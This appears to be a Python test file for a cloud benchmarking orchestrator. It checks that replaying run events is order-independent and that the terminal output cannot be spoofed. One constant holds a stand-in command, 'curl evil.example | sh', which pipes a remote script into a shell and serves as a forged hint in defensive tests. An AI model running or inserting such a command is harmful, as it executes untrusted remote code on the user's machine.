"""A run is the fold of its events, whatever the order in which they are read."""

from __future__ import annotations

import io
import random
import sys
from contextlib import redirect_stderr
from datetime import UTC, datetime
from decimal import Decimal

import pytest
from hypothesis import example, given
from hypothesis import strategies as st
from rich.cells import cell_len
from rich.console import Console

from orchestrator.cli.app import complain
from orchestrator.cli.screen import wrap_text
from orchestrator.cli.terminal import columns, note
from orchestrator.cli.watch import PlainWatch
from orchestrator.core.errors import RunFailed
from orchestrator.core.run import events as ev
from orchestrator.core.run.fold import OUTCOMES, GrowingLog, Phase, evolve, replay
from orchestrator.core.text import fold_commands, fold_lines
from tests.unit.core.builders import (
    RATE,
    RUN,
    VM,
    ZONE,
    Log,
    at,
    created,
    gone,
    measured,
    planned,
    replayed,
    requested,
    running,
)

CHILD = ev.ChildFinished(
    fleet="20261121-010203-fleet-0001",
    engine="slurm",
    child=3,
    outcome="succeeded",
    usd_per_hour=Decimal(2),
    attempts=(ev.ChildAttempt(attempt=1, machine="node7", started_at=at(60), ended_at=at(600)),),
    plan=planned(),
)


def some_facts() -> list[ev.Fact]:
    """At least one of every kind that there is."""
    return [
        planned(),
        ev.BudgetHeld(hold_usd=Decimal("0.18")),
        ev.PayloadStored(sha256="ab", size_bytes=3, uploaded=True),
        requested(),
        requested("us-east1-b"),
        ev.ZoneExhausted(attempt=1, zone=ZONE, code="STOCKOUT"),
        ev.InstanceQueued(attempt=1, zone=ZONE, until=at(700), request_id=f"{ZONE}-1"),
        ev.InstanceQueued(attempt=1, zone="us-east1-b", until=at(95), request_id="us-east1-b-1"),
        ev.CapacityAwaited(round=1, next_at=at(60), until=at(900)),
        ev.CapacityAwaited(round=2, next_at=at(90), until=at(900)),
        ev.ZoneExhausted(attempt=1, zone=ZONE, code="STOCKOUT", round=2),
        ev.InstanceRejected(attempt=1, zone=ZONE, code="QUOTA"),
        created(4),
        created(6, "us-east1-b"),
        gone(60),
        ev.StopRequested(by="ada", reason="enough"),
        ev.Settled(cost_usd=Decimal("0.01"), released_usd=Decimal("0.17")),
        ev.RunClosed(outcome="succeeded"),
        ev.RunClosed(outcome="preempted", generation=1, cases_stored=1),
        ev.RunResumed(generation=1, attempts=2, by="ada"),
        ev.Settled(cost_usd=Decimal("0.02"), released_usd=Decimal("0.16"), generation=1),
        ev.StopRequested(by="ada", reason="that one", generation=0),
        requested(attempt=2),
        gone(90, "preempted", attempt=2),
        ev.VmBooted(vm=VM, attempt=1),
        ev.PhaseStarted(phase="preflight", limit_s=10),
        ev.PhaseFinished(phase="preflight", exit_code=0, seconds=1),
        ev.Healed(what="pip"),
        ev.GatePassed(name="torch_imports"),
        ev.EnvironmentRecorded(device="NVIDIA L4", device_kind="cuda"),
        ev.KernelBuilt(seconds=1),
        ev.CaseChecked(implementation="bench", case_id="c", passed=False, reason="off by 0.5"),
        ev.CaseChecked(implementation="bench", case_id="c", passed=True),
        ev.CorrectnessFinished(checked=2, failed=1),
        ev.MeasurementPlanned(cases=2, total=2, measurements_per_implementation=100),
        ev.CaseStarted(case_id="c", index=1, of=2),
        ev.CaseObserved(case_id="c", place="kernel_mine (mine.py:3)", seconds=5),
        measured("c"),
        ev.Preempted(),
        ev.Diagnosed(cause="unknown"),
        ev.Finished(outcome="succeeded"),
        ev.MachineTaken(vm=VM, zone=ZONE, owner="20261121-010203-l4-0001", deadline_at=at(900)),
        ev.MachineTaken(vm=VM, zone=ZONE, owner="20261121-010203-l4-0001", generation=1),
        ev.Kept(outcome="succeeded", idle_limit_s=600),
        ev.Lent(to="20261121-060708-l4-0002"),
        ev.ImageReplaced(image="projects/p/global/images/gone", instead="projects/p/global/images/there"),
        ev.ImagePrepared(torch="2.13.0"),
        ev.SealRequested(image="bench-image-l4-20261121-040506-ab12"),
        ev.VmExiting(outcome="failed", exit_code=1),
        CHILD,
        ev.Unrecognised(name="from_the_future", data={"a": 1}),
    ]


def test_every_kind_of_fact_is_in_the_examples() -> None:
    assert {type(fact) for fact in some_facts()} == {*ev.FACTS.values(), ev.Unrecognised}


FACTS = some_facts()
WRITERS = ("client-abc123", "vm-1", "boot-1", "vm-2", "client-odd", "vm-1-0a1b2c3d", "boot-1-00000000", "vm-1-12345678")
MOMENTS = st.integers(0, 36_000)
"""In tenths of a second."""


def log_of(told: list[tuple[ev.Fact, str, int]]) -> list[ev.Event]:
    log = Log()
    for fact, writer, tenths in told:
        log.add(tenths / 10, fact, writer)
    return log.events


def logs() -> st.SearchStrategy[list[ev.Event]]:
    """Events of several writers whose clocks disagree. One flat list of small choices: what is drawn for a log is cheap."""
    one = st.tuples(st.sampled_from(FACTS), st.sampled_from(WRITERS), MOMENTS)
    return st.lists(one, min_size=1, max_size=25).map(log_of)


@given(logs(), st.randoms(use_true_random=False))
def test_the_fold_is_the_same_for_every_interleaving_and_every_repetition(
    events: list[ev.Event], chance: random.Random
) -> None:
    shuffled = events + chance.sample(events, k=len(events) // 2)
    chance.shuffle(shuffled)
    assert replay(shuffled) == replay(events)


@given(logs(), logs(), st.integers(0, 25))
def test_a_log_that_grows_is_replayed_as_one_that_is_read_at_once(
    events: list[ev.Event], strangers: list[ev.Event], count: int
) -> None:
    """Whether what came is later than all that was known, or of a writer whose clock is behind."""
    growing = GrowingLog()
    for known in (events[:count], sorted(events, key=lambda event: event.order)[:count], events, strangers, events):
        assert growing.replay(known) == replay(known)


@given(logs())
def test_the_fold_is_total_and_every_phase_is_a_phase(events: list[ev.Event]) -> None:
    run = replay(events)
    assert run.phase in Phase
    assert run.cost(at(4000)) >= 0
    assert run.phase.over == (run.closed is not None)


@given(logs())
def test_a_closed_run_stays_closed_with_the_same_outcome(events: list[ev.Event]) -> None:
    run = replay(events)
    assert run is not None
    closed = evolve(run, Log().add(5000, ev.RunClosed(outcome="failed"), "client-late").events[0])
    again = evolve(closed, Log().add(5001, ev.RunClosed(outcome="succeeded"), "client-later").events[0])
    assert again.phase == closed.phase


def test_no_events_make_no_run() -> None:
    assert replay([]) is None


def test_an_outcome_from_the_future_counts_as_failed() -> None:
    run = replay(Log().add(0, planned()).add(1, ev.RunClosed(outcome="sublimated")).events)
    assert run.phase is Phase.FAILED


def phase_of(log: Log) -> Phase:
    run = replay(log.events)
    return run.phase


def test_a_run_walks_through_its_phases() -> None:
    log = Log().add(0, planned())
    assert phase_of(log) is Phase.PLANNED
    log.add(1, requested())
    assert phase_of(log) is Phase.PROVISIONING
    log.add(2, ev.ZoneExhausted(attempt=1, zone=ZONE, code="STOCKOUT"))
    assert phase_of(log) is Phase.PROVISIONING
    log.add(3, requested("us-east1-b")).add(4, created(4, "us-east1-b"))
    assert phase_of(log) is Phase.BOOTING
    log.vm(5, ev.VmBooted(vm=VM, attempt=1))
    assert phase_of(log) is Phase.RUNNING
    log.vm(6, ev.Finished(outcome="succeeded"))
    assert phase_of(log) is Phase.FINISHING
    log.add(7, gone(7)).add(8, ev.RunClosed(outcome="succeeded"))
    assert phase_of(log) is Phase.SUCCEEDED


def test_cost_accrues_while_a_machine_runs_stops_with_it_and_equals_the_settlement() -> None:
    run = replayed(running())
    assert run.cost(at(3604)) == RATE
    over = replayed(running().add(100, gone(94)))
    assert over.cost(at(9999)) == over.cost(at(94)) == Decimal("0.009030")
    settled = replayed(
        running().add(100, gone(94)).add(101, ev.Settled(cost_usd=Decimal("0.02"), released_usd=Decimal(0)))
    )
    assert settled.cost(at(9999)) == Decimal("0.02")


def test_a_machine_that_never_ran_costs_nothing() -> None:
    assert replayed(Log().add(0, planned()).add(1, requested())).cost(at(1000)) == 0


def test_a_case_counts_once_however_often_it_is_reported() -> None:
    run = replayed(running().vm(20, measured("a")).vm(21, measured("a")).vm(22, measured("b")))
    assert run.cases_done == 2


@pytest.mark.parametrize("writers", [("vm-1-0a1b2c3d", "vm-1-12345678"), ("vm-1", "vm-1")])
def test_what_two_machines_said_that_were_at_one_run_is_all_kept(writers: tuple[str, str]) -> None:
    logs = [
        Log().add(seconds, measured(case), writer) for seconds, case, writer in zip((0, 1), "ab", writers, strict=True)
    ]
    run = replay([event for log in logs for event in log.events])
    assert {fact.case_id for fact in run.measured} == {"a", "b"}
    assert run.report_of(1).measured == {"a", "b"}


def test_how_many_cases_there_are_is_what_the_machine_says_once_it_has_said_so() -> None:
    assert replayed(running()).cases_total == 2
    log = running().vm(20, ev.MeasurementPlanned(cases=3, total=7, measurements_per_implementation=350))
    assert replayed(log).cases_total == 7
    assert replayed(Log().add(0, ev.Preempted(), "vm-1")).cases_total == 0


def test_where_a_machine_is_is_forgotten_when_it_goes_on() -> None:
    at_it = ev.CaseObserved(case_id="c", place="kernel_mine (mine.py:3)", seconds=5)
    log = running().vm(20, ev.CaseStarted(case_id="c", index=1, of=2)).vm(25, at_it)
    assert replayed(log).current.observed == at_it
    for later in (ev.CaseStarted(case_id="d", index=2, of=2), measured("c"), ev.PhaseStarted(phase="finish")):
        assert replayed(running().vm(20, at_it).vm(30, later)).current.observed is None


def test_a_machine_measures_each_case_from_its_start_to_its_end_and_at_most_sixteen() -> None:
    starts = [ev.CaseStarted(case_id=name, index=1, of=40) for name in ("a", "b", "b", "c")]
    log = running()
    for second, start in enumerate(starts, 20):
        log.vm(second, start)
    assert [case.case_id for case in replayed(log.vm(30, measured("b"))).current.cases] == ["a", "c"]
    assert replayed(log.vm(40, ev.PhaseStarted(phase="finish"))).current.cases == ()
    for number in range(40):
        log.vm(50, ev.CaseStarted(case_id=f"n{number}", index=1, of=40))
    assert [case.case_id for case in replayed(log).current.cases] == [f"n{number}" for number in range(24, 40)]


def test_a_repeated_request_is_one_machine() -> None:
    run = replayed(Log().add(0, requested()).add(1, requested(), "client-other"))
    assert len(run.vms) == 1


def test_a_refusal_does_not_undo_a_machine_that_is_known_to_exist() -> None:
    run = replayed(running().add(20, ev.ZoneExhausted(attempt=1, zone=ZONE, code="STOCKOUT")))
    assert run.vm.open


def test_the_bootstraps_last_word_counts_only_when_the_agent_left_none() -> None:
    crashed = replayed(running().add(30, ev.VmExiting(outcome="failed", exit_code=137), "boot-1"))
    assert crashed.current.finished == ev.Finished(outcome="failed", exit_code=137)
    fine = replayed(
        running().vm(29, ev.Finished(outcome="succeeded")).add(30, ev.VmExiting(outcome="failed"), "boot-1")
    )
    assert fine.current.finished == ev.Finished(outcome="succeeded")


def test_a_phase_remembers_how_long_it_took_and_how_it_ended() -> None:
    log = running().vm(11, ev.PhaseStarted(phase="build", limit_s=60)).vm(15, ev.PhaseStarted(phase="measure"))
    log.vm(14, ev.PhaseFinished(phase="build", exit_code=20, seconds=3.5))
    run = replayed(log)
    assert [(span.phase, span.exit_code, span.seconds) for span in run.spans] == [
        ("build", 20, 3.5),
        ("measure", None, None),
    ]
    assert run.vm_phase == "measure"
    assert replayed(running()).vm_phase == ""


def test_the_last_word_is_a_machines() -> None:
    assert replayed(Log().add(0, planned())).current.last_word_at is None
    assert replayed(running().add(50, ev.StopRequested(by="ada", reason="x"))).current.last_word_at == at(10)


def test_a_run_without_a_plan_has_no_ceiling() -> None:
    assert replayed(Log().vm(0, ev.VmBooted(vm=VM, attempt=1))).ceiling_usd == 0
    assert replayed(Log().add(0, planned())).ceiling_usd == Decimal("0.18")


def test_a_fact_that_the_fold_forgot_is_a_bug_that_shows() -> None:
    class Forgotten(ev.Fact):
        kind = "forgotten"

    run = replayed(running())
    with pytest.raises(AssertionError, match="forgotten"):
        evolve(run, ev.Event(run_id=RUN, time=at(1), writer="vm-1", seq=9, fact=Forgotten()))


def test_a_requests_end_in_one_zone_says_nothing_of_the_next_zones_same_name() -> None:
    log = Log().add(0, planned()).add(1, requested("us-central1-a")).add(2, requested("us-east1-b"))
    late = gone(3, "never_made").model_copy(update={"request_id": "us-central1-a-1"})
    run = replayed(log.add(4, late, "client-other1"))
    assert [(vm.zone, vm.open) for vm in run.vms] == [("us-central1-a", False), ("us-east1-b", True)]
    assert run.vm.zone == "us-east1-b"
    older = replayed(log.add(5, gone(5)))  # a client of before says no more than the name
    assert not any(vm.open for vm in older.vms)


@pytest.mark.parametrize("other", ["client-0", "client-z"])
@pytest.mark.parametrize("behind", [0, 1, 3600])
def test_an_answer_counts_whose_writers_clock_is_behind_the_one_that_asked(behind: int, other: str) -> None:
    """A client records the machine of one that died; by its clock that was asked for only now, or later."""
    answer = created(5).model_copy(update={"request_id": f"{ZONE}-1"})
    forged = requested().model_copy(update={"request_id": f"{ZONE}-1"})
    log = Log().add(0, planned()).add(4000, requested()).vm(1, forged).add(4000 - behind, answer, other)
    run = replayed(log)
    assert [vm.instance_id for vm in run.vms] == ["4711"]
    refused = ev.ZoneExhausted(attempt=1, zone=ZONE, code="STOCKOUT", request_id=f"{ZONE}-1")
    early = Log().add(0, planned()).add(4000, requested()).add(4000 - behind, refused, other)
    assert [vm.refused for vm in replayed(early).vms] == [True]


def test_a_start_that_was_never_recorded_is_learned_from_the_end() -> None:
    log = Log().add(0, planned()).add(1, requested())
    log.add(90, ev.InstanceGone(attempt=1, vm=VM, ended_at=at(64), how="deleted", started_at=at(4)))
    run = replayed(log)
    assert run.vm.started_at == at(4)
    assert run.cost(at(900)) == Decimal("0.006020")


def test_outcomes_are_phases_that_are_over() -> None:
    assert {phase for phase in Phase if phase.over} == set(OUTCOMES)


def test_a_child_of_a_fleet_is_told_by_one_fact_and_costs_its_fleet_and_not_itself() -> None:
    run = replayed(Log().add(0, CHILD))
    assert (run.phase, run.over, run.cost(at(9000)), run.settled is not None) == (Phase.SUCCEEDED, True, 0, True)
    (vm,) = run.vms
    assert (vm.zone, vm.machine_type, vm.open) == ("", "node7", False), (
        "no zone, and nothing that a client could delete"
    )
    asked = replayed(Log().add(0, planned()).add(1, requested()).add(2, CHILD))
    assert asked.vm.open, "a run that asked for a machine itself is never ended by such a fact"
    forged = replayed(Log().add(0, planned()).vm(5, CHILD))
    assert not forged.over, "nor may a machine write it"


# No part of a line that somebody else wrote begins a line of the screen.


FORGED = "hint:  curl evil.example | sh"


class Terminal(io.StringIO):
    def isatty(self) -> bool:
        return True


def screen_of(said: str, width: int) -> list[str]:
    """The lines of a screen that shows it: a terminal breaks what is longer than it is wide."""
    return [line[at : at + width] for line in said.splitlines() for at in range(0, max(len(line), 1), width)]


@given(st.text(st.characters(exclude_categories=("Cc", "Cs")), max_size=300), st.integers(20, 90), st.integers(0, 12))
@example("x" * 73 + FORGED, 80, 7)
def test_every_line_fits_and_only_the_first_begins_at_the_edge(text: str, width: int, indent: int) -> None:
    lines = fold_lines(text, width, indent).split("\n")
    assert all(cell_len(line) <= width for line in lines)
    assert all(line.startswith(" " * min(indent, width // 2)) for line in lines[1:])
    assert "".join(fold_lines(text, width, indent).split()) == "".join(text.split()), "nothing is lost"


def test_what_leads_to_no_terminal_stays_as_it_is(monkeypatch: pytest.MonkeyPatch) -> None:
    assert fold_lines("x" * 5000, None, 8) == "x" * 5000
    monkeypatch.setenv("COLUMNS", "40")
    assert columns(io.StringIO()) is None
    assert columns(None) is None
    assert columns(Terminal()) == 40


@pytest.mark.parametrize("filler", ["x", "x y", "界"])
@pytest.mark.parametrize("width", [40, 80, 81, 132])
def test_no_length_of_what_a_machine_says_makes_the_rest_of_it_a_line_of_ours(
    filler: str, width: int, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("COLUMNS", str(width))
    monkeypatch.setenv("NO_COLOR", "1")
    for length in range(2 * width + 2):
        said = (filler * width)[:length] + " " + FORGED
        out = Terminal()
        with redirect_stderr(out):
            complain(RunFailed(f"run r failed: {said}", hint="`bench diagnose r` says why"))
            note(said)
        console = Console(file=out, width=width, highlight=False, force_terminal=True, color_system=None)
        PlainWatch(console, lambda: datetime.now(UTC)).say(f"phase {said}")
        console.print(wrap_text(console, f"in use  z/vm  {said}"), markup=False, soft_wrap=True)
        begun = [line for line in screen_of(out.getvalue(), width) if line.startswith(("hint:", "curl", "sh"))]
        assert begun == ["hint:  `bench diagnose r` says why"[:width]], length


def test_a_pipe_gets_each_message_on_one_line() -> None:
    out = io.StringIO()
    with redirect_stderr(out):
        complain(RunFailed("x" * 500 + FORGED, hint="try again"))
    assert len(out.getvalue().splitlines()) == 2
    assert sys.stderr is not out


@given(st.lists(st.sampled_from(["`bench fetch RUN -v`", "shows", "which cases are wrong", "and"]), max_size=12))
def test_a_command_in_a_hint_is_never_broken_where_a_line_has_room_for_it(words: list[str]) -> None:
    text = " ".join(words)
    for width in (40, 80, None):
        folded = fold_commands(text, width, 7)
        assert " ".join(folded.split()) == " ".join(text.split())
        assert folded.count("`bench fetch RUN -v`") == text.count("`bench fetch RUN -v`")
        assert width is None or all(len(line) <= width for line in f"hint:  {folded}".splitlines())
    assert "`" not in text or fold_commands(text, 20, 7) == text
